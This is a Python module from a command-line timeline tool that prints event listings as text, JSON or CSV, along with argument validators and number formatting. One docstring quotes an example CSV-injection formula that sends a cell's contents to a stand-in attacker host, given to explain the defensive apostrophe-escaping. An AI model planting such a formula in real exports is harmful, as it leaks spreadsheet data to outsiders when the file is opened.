"""How listings are printed: text for people, JSON and CSV for programs.

Every listing goes through `emit`, so `--format` means the same thing everywhere.
"""

from __future__ import annotations

import csv
import json
import sys
from collections.abc import Callable, Iterable
from typing import Any, TextIO

import click
import orjson

from timeline.events import event_type
from timeline.texts import FORMULA_START, list_cell

FORMATS = ("text", "json")
EVENT_FORMATS = ("text", "json", "csv")
class Positive(click.ParamType[int]):
    """A count or position: a whole number from 1 up to SQLite's largest integer."""

    name = "number"
    largest = 2**63 - 1

    def convert(self, value: Any, param: click.Parameter | None, ctx: click.Context | None) -> int:
        try:
            number = int(value)
        except (TypeError, ValueError):
            self.fail(f"{value!r} is not a whole number", param, ctx)
        if not 1 <= number <= self.largest:
            self.fail(f"{value} is not a number from 1 up", param, ctx)
        return number


POSITIVE = Positive()


def record_id(ctx: click.Context, param: click.Parameter, value: str) -> str:
    """An event or proposal id as the log spells it (ids are lower-case hex), however
    it was pasted: EV-0A1B... and ev-0a1b... are the same event."""
    return value.strip().lower()


def given(ctx: click.Context, param: click.Parameter, value: str | None) -> str | None:
    """An option's value, which may be left out but not given empty: `--company ""` from
    a script's unset variable must not read as "every company"."""
    if value is not None and not value.strip():
        raise click.BadParameter("must not be empty (leave the option out instead)")
    return value


def head_hash(ctx: click.Context, param: click.Parameter, value: str | None) -> str | None:
    """A head hash as `verify` prints it: 64 hexadecimal digits, whatever their case. A
    typo must be bad input, not a false alarm that the log was rewritten."""
    if value is None:
        return None
    text = value.strip().lower()
    if len(text) != 64 or any(c not in "0123456789abcdef" for c in text):
        raise click.BadParameter(f"{value!r} is not a head hash: give all 64 hexadecimal "
                                 "digits, as `timeline verify` prints them")
    return text


EVENT_CSV_COLUMNS = ["id", "type", "date", "precision", "date_note", "status", "title", "summary",
                     "companies", "amounts", "capacity_gwh", "country", "region", "city", "fields",
                     "tags", "sources", "retracted", "uncertain"]


def format_option(choices: tuple[str, ...] = FORMATS) -> Callable[[Any], Any]:
    return click.option("--format", "fmt", type=click.Choice(choices), default="text",
                        show_default=True, help="Output format.")


def dumps(value: Any) -> str:
    return json.dumps(value, ensure_ascii=False, indent=2)


def _pretty(value: Any) -> str:
    """`dumps`, by orjson when it can (the same text, five times faster; an export of a
    large log writes one per event)."""
    try:
        return orjson.dumps(value, option=orjson.OPT_INDENT_2).decode("utf-8")
    except orjson.JSONEncodeError:  # integers beyond 64 bits
        return dumps(value)


def counted(count: int, noun: str) -> str:
    """`1 item`, `2 items`: tallies read as sentences."""
    return f"{count} {noun}" if count == 1 else f"{count} {noun}s"


def money(amount: dict[str, Any]) -> str:
    value = amount["value"]
    text = f"{value:,.0f}" if value == int(value) else f"{value:,}"
    return ("~" if amount.get("approximate") else "") + f"{text} {amount['currency']}"


def event_line(event: dict[str, Any]) -> str:
    companies = ", ".join(f"{c['name']} ({c['role']}{_merged(c, ', reported as ')})"
                          for c in event["companies"])
    flags = []
    if event.get("uncertain"):
        flags.append("uncertain")
    if event.get("retracted"):
        flags.append("retracted")
    figures = [money(a) for a in event["amounts"]]
    if event.get("capacity_gwh") is not None:
        figures.append(f"{event['capacity_gwh']:g} GWh")
    parts = [f"{event['date']:<10}", f"{event['type']:<17}", event["title"]]
    line = "  ".join(parts)
    if figures:
        line += f"  [{'; '.join(figures)}]"
    # The date's note (late, H2, about, onward ...) under the date it qualifies.
    line += f"\n{event.get('date_note') or '':<10}  {event['id']:<17}  {companies}"
    if flags:
        line += f"  ({', '.join(flags)})"
    return line


def _merged(company: dict[str, Any], before: str, after: str = "") -> str:
    """The id an event named a company by, when that company has since been merged into
    the one shown (else nothing): the history keeps who did what."""
    named = company.get("reported_as", company["id"])
    return f"{before}{named}{after}" if named != company["id"] else ""


def plain_number(value: float) -> str:
    """A number as a program reads it back exactly: 350000000, 8.125 (never 3.5e+08)."""
    if isinstance(value, float) and value.is_integer() and abs(value) < 1e18:
        return str(int(value))
    return repr(value) if isinstance(value, float) else str(value)


def write_events_csv(events: Iterable[dict[str, Any]], out: TextIO) -> None:
    """The CSV of `events`, a row written as each event comes."""
    writer = csv.DictWriter(out, fieldnames=EVENT_CSV_COLUMNS, lineterminator="\n")
    writer.writeheader()
    for event in events:
        writer.writerow({column: _inert(value) for column, value in _csv_row(event).items()})


def _csv_row(event: dict[str, Any]) -> dict[str, str]:
    return {
        "id": event["id"], "type": event["type"], "date": event["date"],
        "precision": event["precision"], "date_note": event.get("date_note") or "",
        "status": event["status"], "title": event["title"],
        "summary": event.get("summary") or "",
        "companies": list_cell(f"{c['id']}:{c['role']}{_merged(c, ' (', ')')}"
                               for c in event["companies"]),
        "amounts": list_cell(f"{plain_number(a['value'])} {a['currency']}" for a in event["amounts"]),
        "capacity_gwh": "" if event.get("capacity_gwh") is None else plain_number(event["capacity_gwh"]),
        "country": event["location"].get("country", ""),
        "region": event["location"].get("region", ""),
        "city": event["location"].get("city", ""),
        "fields": _own_fields(event),
        "tags": list_cell(event.get("tags") or []),
        "sources": list_cell(s.get("url") or "" for s in event["sources"]),
        "retracted": str(event["retracted"]).lower(),
        "uncertain": str(event["uncertain"]).lower(),
    }


def _inert(cell: str) -> str:
    """A CSV cell that a spreadsheet shows as text: one that would start a formula (a
    title from a feed such as =HYPERLINK("http://evil.example/?"&A1) would run when the
    export is opened) gets a leading apostrophe, OWASP's advice, which spreadsheets do not
    display."""
    return "'" + cell if cell.startswith(FORMULA_START) else cell


def _own_fields(event: dict[str, Any]) -> str:
    """The type's own fields (stake_pct=80;price=320000000 GBP), in one column: every type
    has others, and one column keeps the header the same for all of them."""
    return list_cell(f"{name}={_cell(event[name])}"
                     for name in event_type(event["type"]).fields.model_fields
                    if event.get(name) is not None and name not in EVENT_CSV_COLUMNS)


def _cell(value: Any) -> str:
    if isinstance(value, dict) and "currency" in value:
        return f"{plain_number(value['value'])} {value['currency']}"
    if isinstance(value, (int, float)):
        return plain_number(value)
    return str(value)


def emit_events(events: Iterable[dict[str, Any]], fmt: str, empty: str = "No events.") -> None:
    """Print events as they come: an export of a whole log starts at once and holds one
    event at a time, whatever its size (`| head` stops it early)."""
    out = sys.stdout
    if fmt == "csv":
        write_events_csv(events, out)
        return
    printed = 0
    for event in events:
        if fmt == "json":
            # What `dumps` writes for the whole list, an item at a time.
            out.write(("[\n  " if not printed else ",\n  ") + _pretty(event).replace("\n", "\n  "))
        else:
            out.write(event_line(event) + "\n")
        printed += 1
    if fmt == "json":
        out.write("\n]\n" if printed else "[]\n")
    elif not printed:
        out.write(empty + "\n")
